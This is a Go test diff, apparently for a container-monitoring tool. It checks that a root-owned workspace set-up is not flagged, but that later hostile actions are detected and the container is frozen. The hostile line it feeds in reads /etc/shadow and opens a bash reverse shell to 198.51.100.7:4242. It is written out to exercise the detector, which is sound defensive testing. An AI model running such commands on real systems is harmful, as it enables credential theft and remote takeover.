@@ -164,6 +164,32 @@ func TestWatchFreezesThawsAndFreezesAgain(t *testing.T) {
 	}
 }
 
+// R-MON-05: in a workspace of root the tool is container root, as coi's own set-up
+// is. What it does is judged all the same; the set-up and the save pause nothing.
+func TestRootToolIsJudged(t *testing.T) {
+	dir := workspace(t)
+	if err := os.Chown(dir, 0, 0); err != nil {
+		t.Fatal(err)
+	}
+	s := begin(t, dir, "id -u > uid; "+awaitGo+"sleep 60")
+	err := house.Eventually(t.Context(), time.Minute, func() error {
+		if data, err := os.ReadFile(dir + "/uid"); err != nil || string(data) != "0\n" {
+			return fmt.Errorf("control: the tool is %q, %v; want root", data, err)
+		}
+		return nil
+	})
+	if err != nil {
+		t.Fatalf("%v\n%s", err, s.out.String())
+	}
+	if got := rulesOf(t, s.container, "high", "critical"); len(got) > 0 {
+		t.Errorf("the set-up is judged: %v", got)
+	}
+	goOn(t, dir, "cat /etc/shadow >/dev/null; bash -i >& /dev/tcp/198.51.100.7/4242 0>&1")
+	s.answered("cred.shadow")
+	must(t, dir, "unfreeze", s.container)
+	s.answered("shell.")
+}
+
 // R-MON-08: a file is watched itself, whatever words name it, in each of several
 // containers at once. The open file is what counts: the command does not show it.
 func TestWatchSeesFilesOfEveryContainer(t *testing.T) {
